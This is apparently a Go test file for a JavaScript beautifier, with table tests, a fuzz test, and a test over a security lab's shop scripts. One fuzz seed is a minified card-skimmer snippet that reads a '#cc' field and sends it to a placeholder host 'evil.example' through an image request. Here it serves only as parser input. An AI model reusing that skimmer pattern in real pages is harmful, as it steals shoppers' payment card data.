package jsbeautify

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func TestBeautify(t *testing.T) {
	for _, tc := range []struct {
		name, in, want string
	}{
		{"statements go on their own lines", "var a=1;var b=2;", "var a = 1;\nvar b = 2;"},
		{"a function body is indented by brace depth",
			"function f(x){if(x){return 1}return 2}",
			"function f(x) {\n  if (x) {\n    return 1\n  }\n  return 2\n}"},
		{"an object literal puts one member on a line",
			"var o={a:1,b:'x'};",
			"var o = {\n  a: 1,\n  b: 'x'\n};"},
		{"commas inside a call stay on the line", "f(a,b,c);", "f(a, b, c);"},
		{"the semicolons of a for loop stay on the line", "for(i=0;i<n;i++){x()}", "for (i = 0; i < n; i++) {\n  x()\n}"},
		{"a string with braces and semicolons is kept as it is", `s="a;{b},c";`, `s = "a;{b},c";`},
		{"a regular expression with braces and semicolons is kept as it is", `r=/[;{}]+,/g;x()`, "r = /[;{}]+,/g;\nx()"},
		{"a division is not taken for a regular expression", "a=b/c;d=e/f", "a = b/c;\nd = e/f"},
		{"a template literal with a substitution is kept as it is", "t=`a;${{x:1}.x};b`;y()", "t = `a;${{x:1}.x};b`;\ny()"},
		{"comments are kept and a line comment ends its line", "a();// c;{\nb();/*d;{*/e()", "a();\n// c;{\nb();\n/*d;{*/ e()"},
		{"else stays on the closing brace's line", "if(a){b()}else{c()}", "if (a) {\n  b()\n} else {\n  c()\n}"},
		{"an immediately invoked function closes on one line", "!function(){a()}();", "!function() {\n  a()\n}();"},
		{"words that would merge keep a space", "return typeof x", "return typeof x"},
		{"plus signs that would merge keep a space", "a+ +b", "a+ +b"},
		{"the source's own line breaks are kept", "a=1\nb=2", "a = 1\nb = 2"},
		{"an unbalanced closing brace does not indent below zero", "}}a;b", "}\n}\na;\nb"},
		{"an empty block stays on one line", "function f(){}", "function f() {}"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Beautify(tc.in)
			if got != tc.want {
				t.Errorf("Beautify(%q)\n got: %q\nwant: %q", tc.in, got, tc.want)
			}
			if again := Beautify(got); again != got {
				t.Errorf("not idempotent:\n once: %q\ntwice: %q", got, again)
			}
		})
	}
}

// tokensOf is src's tokens without whitespace.
func tokensOf(src string) []string {
	var out []string
	for _, t := range Tokens(src) {
		if t.Kind != kindSpace && t.Kind != kindNewline {
			out = append(out, t.Text)
		}
	}
	return out
}

func FuzzBeautify(f *testing.F) {
	for _, s := range []string{
		"var a=1;function f(x){if(x){return/a;b/g.test(x)}return`t${x+{a:1}.a}`}",
		"!function(){var e=document.querySelector('#cc'),n=new Image;n.src='//evil.example/c?d='+btoa(e.value)}();",
		"a/b/c", "x=/[/]/;y", "/* unterminated", "'unterminated\nx", "`${`${a}`}`", "1.5e-3.toString()", "a++ +b--",
		"return\n/re/", "}{)(][", "a?.b??c", ".5+.5",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		out := Beautify(src)
		if again := Beautify(out); again != out {
			t.Fatalf("not idempotent for %q:\n once: %q\ntwice: %q", src, out, again)
		}
		if a, b := strings.Join(tokensOf(src), "\x00"), strings.Join(tokensOf(out), "\x00"); a != b {
			t.Fatalf("tokens changed for %q:\n  in: %q\n out: %q", src, tokensOf(src), tokensOf(out))
		}
	})
}

// TestLabScripts runs the beautifier over every script of the lab shop,
// its vendors and its skimmers: real code, minified and not.
func TestLabScripts(t *testing.T) {
	var paths []string
	err := filepath.WalkDir("../lab/assets", func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() && strings.HasSuffix(p, ".js") {
			paths = append(paths, p)
		}
		return err
	})
	if err != nil || len(paths) < 10 {
		t.Fatalf("found %d lab scripts: %v", len(paths), err)
	}
	for _, p := range paths {
		t.Run("the lab's "+strings.TrimPrefix(p, "../lab/assets/")+" keeps its tokens and is stable", func(t *testing.T) {
			src, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			out := Beautify(string(src))
			if again := Beautify(out); again != out {
				t.Fatal("not idempotent")
			}
			if a, b := tokensOf(string(src)), tokensOf(out); !slices.Equal(a, b) {
				t.Fatalf("tokens changed: %d in, %d out", len(a), len(b))
			}
			// Minified code (a source line over 1,000 characters) comes out
			// as many lines a person can read.
			in, outLines := strings.Split(string(src), "\n"), strings.Count(out, "\n")+1
			if slices.ContainsFunc(in, func(l string) bool { return len(l) > 1000 }) && outLines < 10*len(in) {
				t.Errorf("minified: %d lines in, only %d out", len(in), outLines)
			}
		})
	}
}
